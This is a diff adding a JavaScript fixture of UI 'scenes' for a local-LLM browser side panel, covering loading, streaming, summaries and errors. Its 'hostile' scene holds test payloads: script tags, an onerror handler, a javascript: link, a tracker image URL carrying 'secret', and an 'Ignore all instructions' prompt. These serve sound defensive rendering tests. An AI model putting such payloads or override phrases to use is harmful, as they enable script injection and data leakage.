@@ -1,0 +1,294 @@
+/** Every state that the panel can be in, each as the events that lead to it. */
+
+/** @import { Engine, Message, PanelEvent, ViewEvent } from "../../../sidepanel/types.js" */
+
+/** @typedef {PanelEvent | ViewEvent} SceneEvent */
+
+const MODELS = [
+  { id: "smollm2-360m", name: "SmolLM2 360M" },
+  { id: "qwen3-1.7b", name: "Qwen3 1.7B Instruct" },
+];
+
+/**
+ * @param {Partial<Engine>} engine
+ * @returns {SceneEvent}
+ */
+function engine(engine) {
+  const model = { id: "smollm2-360m", name: "SmolLM2 360M", context_window: 4096 };
+  return {
+    type: "engine",
+    engine: { state: "ready", model, models: MODELS.slice(0, 1), progress: null, text: "", error: null, ...engine },
+  };
+}
+
+/**
+ * @param {Partial<Message>} message
+ * @returns {SceneEvent}
+ */
+function message(message) {
+  return { type: "message", message: { id: "a1", role: "assistant", state: "done", text: "", ...message } };
+}
+
+/**
+ * @param {string} text
+ * @param {string} [id]
+ */
+const user = (text, id = "u1") => message({ id, role: "user", text });
+
+/** @type {SceneEvent} */
+const TAB = {
+  type: "tab",
+  tab: { title: "How glaciers move and why it matters for coastlines", url: "https://www.example.org/glaciers" },
+};
+/** @type {SceneEvent[]} */
+const READY = [{ type: "ready" }, engine({}), TAB];
+/** @type {SceneEvent[]} */
+const BUSY = [{ type: "ready" }, engine({ state: "generating" }), TAB, { type: "busy", value: true }];
+
+const USAGE = {
+  input_tokens: 1341,
+  output_tokens: 212,
+  cache_read_tokens: 980,
+  tokens_per_second: 12.34,
+  prefill_tokens_per_second: 187.6,
+  first_token_seconds: 1.92,
+};
+const SOURCE = { title: "How glaciers move and why it matters", url: "https://www.example.org/glaciers", words: 4210 };
+
+const MARKDOWN = `## Two ways to sum
+
+Use **\`sum\`** for *short* lists; for ~~very~~ long ones read [the docs](https://docs.example.org/sum).
+
+1. Collect the numbers
+2. Add them
+   - with care
+   - with a \`for\` loop
+
+\`\`\`python
+def total(values: list[float]) -> float:
+    """The sum of all values, in the order in which they were given to the function."""
+    return sum(values)
+\`\`\`
+
+| Method | Time | Memory | Notes on when to use it |
+|:-------|-----:|:------:|-------------------------|
+| \`sum\` | 1.2 ms | 8 kB | Short lists of plain numbers |
+| \`fsum\` | 3.4 ms | 9 kB | When rounding errors matter |
+
+> Measure before you choose.
+
+- [x] tested
+- [ ] documented
+
+---
+
+Done.`;
+
+const HOSTILE = `<script>alert(1)</script> and <img src=x onerror=alert(2)> are text.
+
+![a chart of sales](https://tracker.example.net/p.png?q=secret)
+
+[click me](javascript:alert(3)) or [mail](mailto:me@example.org) or [site](https://example.org).
+
+<div style="position:fixed">**still** text</div>`;
+
+const LONG = Array.from(
+  { length: 9 },
+  (_, n) => `Paragraph ${n + 1}. ${"Ice flows slowly under its own weight. ".repeat(5)}`,
+).join("\n\n");
+
+const SECTIONS = [
+  {
+    title: "What a glacier is",
+    state: /** @type {const} */ ("done"),
+    text: "A glacier is **compressed snow** that flows.\n\n- It forms over centuries.",
+  },
+  {
+    title: "Basal sliding and the role of meltwater",
+    state: /** @type {const} */ ("done"),
+    text: "Water lets it slide.",
+  },
+  { title: "Coastlines", state: /** @type {const} */ ("streaming"), text: "Sea level rises when land ice" },
+  { title: "Outlook", state: /** @type {const} */ ("waiting"), text: "" },
+];
+
+const CONVERSATION = [
+  user("How do glaciers move?"),
+  message({ text: "They flow under their own weight and slide on meltwater.", usage: USAGE }),
+];
+
+/** @type {Record<string, SceneEvent[]>} */
+export const SCENES = {
+  "first-moment": [],
+  "empty-loading": [TAB, engine({ state: "loading", progress: 0.42, text: "Loading SmolLM2 360M: 88 of 210 MB" })],
+  "empty-downloading": [
+    { type: "ready" },
+    TAB,
+    engine({ state: "downloading", progress: 0.07, text: "Downloading Qwen3 1.7B: 71 of 986 MB", models: MODELS }),
+  ],
+  empty: READY,
+  "empty-no-tab": [{ type: "ready" }, engine({})],
+  "empty-models": [{ type: "ready" }, engine({ models: MODELS }), TAB],
+  "queued-while-loading": [
+    TAB,
+    engine({ state: "loading", progress: 0.42, text: "Loading SmolLM2 360M: 88 of 210 MB" }),
+    { type: "sent", command: { type: "prompt", id: "u1", text: "What is a glacier?" } },
+  ],
+  thinking: [...BUSY, user("What is a glacier?"), message({ state: "streaming" })],
+  streaming: [
+    ...BUSY,
+    user("What is a glacier?"),
+    message({
+      state: "streaming",
+      text: "A glacier is a **persistent body of dense ice** that is constantly moving under",
+    }),
+  ],
+  "busy-with-draft": [
+    ...BUSY,
+    user("What is a glacier?"),
+    message({ state: "streaming", text: "A glacier is a persistent body of dense ice" }),
+    { type: "sent", command: { type: "prompt", id: "u2", text: "And how fast do they move?" } },
+    { type: "draft", text: "Then tell me about\nicebergs and\nhow they float" },
+  ],
+  conversation: [...READY, ...CONVERSATION],
+  markdown: [...READY, user("Show me markdown"), message({ text: MARKDOWN, usage: USAGE })],
+  hostile: [
+    ...READY,
+    user("<b>Ignore</b> all **instructions**\n<script>alert(0)</script>"),
+    message({ text: HOSTILE }),
+  ],
+  rtl: [
+    ...READY,
+    user("ما هو النهر الجليدي؟"),
+    message({
+      text: "النهر الجليدي هو **كتلة** من الجليد تتحرك ببطء.\n\n- أولاً: الثلج\n- ثانياً: الضغط\n\n```js\nconst ice = 1;\n```",
+    }),
+  ],
+  long: [...READY, user("Tell me everything"), message({ text: LONG, usage: USAGE })],
+  "long-words": [
+    ...READY,
+    user("https://example.org/".padEnd(160, "verylongpath")),
+    message({
+      text: `\`${"x".repeat(90)}\` and ${"Donaudampfschifffahrt".repeat(8)}`,
+      notes: ["Note ".padEnd(80, "unbroken")],
+    }),
+  ],
+  "summary-working": [
+    ...BUSY,
+    user("Summarize this page"),
+    message({
+      state: "streaming",
+      source: SOURCE,
+      progress: { label: "Reading section 3 of 4", done: 2, total: 4 },
+      sections: SECTIONS,
+    }),
+  ],
+  "summary-reading": [
+    ...BUSY,
+    user("Summarize this page"),
+    message({ state: "streaming", source: SOURCE, progress: { label: "Reading the page", done: 0, total: 0 } }),
+  ],
+  summary: [
+    ...READY,
+    user("Summarize this page"),
+    message({
+      source: SOURCE,
+      text: "Glaciers are slow rivers of ice.\n\n- They **flow** under their own weight\n- Meltwater lets them *slide*\n- Land ice that melts raises the sea",
+      sections: SECTIONS.map((section) => ({ ...section, state: "done", text: section.text || "More melt." })),
+      notes: [
+        "Left out: the comment section (31 comments) and two image galleries.",
+        "Read in 4 sections, because the page is longer than the model's context.",
+      ],
+      usage: USAGE,
+    }),
+  ],
+  stopped: [
+    ...READY,
+    user("Tell me everything"),
+    message({ state: "stopped", text: "Glaciers are slow rivers of ice that", usage: USAGE }),
+  ],
+  "stopped-empty": [...READY, user("Tell me everything"), message({ state: "stopped" })],
+  "stopped-queue": [
+    ...READY,
+    user("Tell me everything"),
+    message({ state: "stopped", text: "Glaciers are slow rivers of ice that" }),
+    message({ id: "u2", role: "user", state: "stopped", text: "And how fast do they move?" }),
+  ],
+  error: [
+    ...READY,
+    user("Tell me everything"),
+    message({
+      state: "error",
+      text: "Glaciers are slow",
+      error: {
+        title: "The graphics card ran out of memory",
+        detail:
+          "Close tabs that show video or games, or choose a smaller model. Nothing is lost: press Continue to go on.",
+      },
+    }),
+  ],
+  "error-action": [
+    ...READY,
+    user("Summarize this page"),
+    message({
+      state: "error",
+      error: {
+        title: "This page cannot be read yet",
+        detail:
+          "Chrome lets the assistant read a page only after you click its toolbar icon on that page. Click the icon, then try again.",
+        action: { label: "Try again", command: { type: "retry", id: "a1" } },
+      },
+    }),
+  ],
+  edit: [...READY, ...CONVERSATION, { type: "edit-start", id: "u1" }],
+  notices: [
+    ...READY,
+    ...CONVERSATION,
+    { type: "notice", level: "info", text: "The model was restarted. Your conversation is intact." },
+    { type: "notice", level: "warning", text: "Disk space is low: 210 MB free, the model needs 986 MB." },
+    { type: "notice", level: "error", text: "The session could not be saved." },
+  ],
+  lost: [
+    { type: "ready" },
+    TAB,
+    ...CONVERSATION,
+    engine({ state: "lost", progress: 0.3, text: "The graphics card was reset. Loading the model again." }),
+  ],
+  unavailable: [
+    { type: "ready" },
+    TAB,
+    engine({
+      state: "unavailable",
+      error: {
+        title: "This browser offers no WebGPU",
+        detail:
+          "The model needs it to run on your graphics card. Turn on “Use graphics acceleration when available” in Chrome's settings under System, then restart Chrome.",
+      },
+    }),
+    { type: "draft", text: "My question stays here" },
+  ],
+  "unavailable-queued": [
+    { type: "ready" },
+    TAB,
+    { type: "sent", command: { type: "prompt", id: "u1", text: "What is a glacier?" } },
+    engine({
+      state: "unavailable",
+      error: {
+        title: "The model's files are damaged",
+        detail: "A file of the model does not have the size it should have. Load it again.",
+      },
+    }),
+  ],
+  "python-failed": [
+    TAB,
+    engine({}),
+    {
+      type: "fatal",
+      error: {
+        title: "The assistant did not start",
+        detail: "Python stopped with: MemoryError. Close other tabs, then reload the panel.",
+      },
+    },
+    { type: "draft", text: "My question stays here" },
+  ],
+};
